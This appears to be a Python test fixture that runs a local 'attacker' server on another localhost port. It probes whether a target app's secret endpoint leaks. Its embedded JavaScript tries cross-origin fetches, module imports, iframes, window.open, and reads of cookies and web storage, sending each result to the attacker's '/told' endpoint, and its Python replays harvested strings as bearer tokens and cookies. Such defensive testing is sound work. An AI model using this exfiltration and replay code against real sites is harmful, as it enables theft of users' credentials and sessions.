"""Somebody else on this machine: a page on another port of 127.0.0.1, who keeps whatever a browser brings."""

from __future__ import annotations

import contextlib
import http.client
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import unquote

from tests.patience import PATIENCE

_PAGE = """<!doctype html><title>attacker</title><a id="link" href="{target}">a link</a>
<iframe src="{target}"></iframe><iframe src="{target}{secret}"></iframe><img src="{target}{secret}">
<script src="/steal.js"></script><script src="{target}token.js" type="module"></script>"""
_SCRIPT = """
const secret = "{target}{secret}";
const told = (what) => fetch("/told", {{ method: "POST", body: what }});
const reads = async (name, what) => {{
  try {{ await told(name + ": " + await what()); }} catch (error) {{ await told(name + " failed: " + error); }}
}};
(async () => {{
  for (const credentials of ["include", "omit"]) for (const mode of ["cors", "no-cors"]) {{
    await reads(`${{credentials}} ${{mode}}`, async () => (await fetch(secret, {{ credentials, mode }})).text());
  }}
  await reads("header", async () => (await fetch(secret, {{ headers: {{ Authorization: "Bearer x" }} }})).text());
  await reads("import", async () => JSON.stringify(await import("{target}token.js")));
  await reads("cookies", async () => document.cookie);
  await reads("kept", async () => JSON.stringify(sessionStorage) + JSON.stringify(localStorage));
  await reads("opener", async () => String(window.opener && window.opener.location.href));
  await reads("frame", async () => document.querySelector("iframe").contentDocument.body.innerHTML);
  const other = window.open("{target}");
  await reads("window", async () => other.document.body.innerHTML + other.location.href);
  await reads("post", async () => (await fetch("{target}undo", {{ method: "POST", credentials: "include" }})).text());
  await told("done");
}})();
"""
_WORD = re.compile(r"[^\s;,=\"'&?#/]{8,}")
"""What could be a secret in what was brought."""


class PortAttacker:
    """A server on another port of the host of `target`, whose pages reach for `secret` there in every way."""

    def __init__(self, target: str, secret: str) -> None:
        """target: with a slash at its end. secret: a path below it."""
        self.target, self.secret = target, secret
        self.brought: list[str] = []
        """Each request that came: its line, its headers and its body."""
        self.done = threading.Event()
        """Its page has tried everything."""
        self.address = ""

    def attempts(self) -> dict[str, int]:
        """The status of each try to open the secret with something that was brought."""
        words = {word for text in self.brought for word in _WORD.findall(text + "\n" + unquote(text))}
        cookies = {pair for text in self.brought for pair in re.findall(r"^cookie: (.*)$", text, re.I | re.M)}
        tries = [{"Cookie": pair} for pair in cookies]
        for word in words:
            tries += [{"Authorization": f"Bearer {word}"}, {"Cookie": f"streamdeid={word}"}]
        found = {str(headers): self.asked(headers) for headers in tries}
        return found | {f"?token={word}": self.asked({}, f"?token={word}") for word in words if word.isascii()}

    def asked(self, headers: dict[str, str], query: str = "") -> int:
        """The status of the secret's answer."""
        place = self.target.removeprefix("http://").rstrip("/")
        with contextlib.closing(http.client.HTTPConnection(place, timeout=PATIENCE)) as connection:
            connection.request("GET", f"/{self.secret}{query}", headers=headers)
            answer = connection.getresponse()
            answer.read()
            return answer.status


@contextlib.contextmanager
def port_attacker(target: str, secret: str) -> Iterator[PortAttacker]:
    """Serve its pages in a thread until the block ends."""
    attacker = PortAttacker(target, secret)

    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._keep(b"")
            script = self.path == "/steal.js"
            text = (_SCRIPT if script else _PAGE).format(target=target, secret=secret)
            self._tell(text.encode(), "text/javascript" if script else "text/html")

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
            self._keep(body)
            self._tell(b"", "text/plain")
            if body == b"done":
                attacker.done.set()

        def _keep(self, body: bytes) -> None:
            attacker.brought.append(f"{self.requestline}\n{self.headers}\n{body.decode(errors='replace')}")

        def _tell(self, body: bytes, kind: str) -> None:
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answers)
    attacker.address = f"http://127.0.0.1:{server.server_port}/"
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield attacker
    finally:
        server.shutdown()
        thread.join(PATIENCE)
        server.server_close()
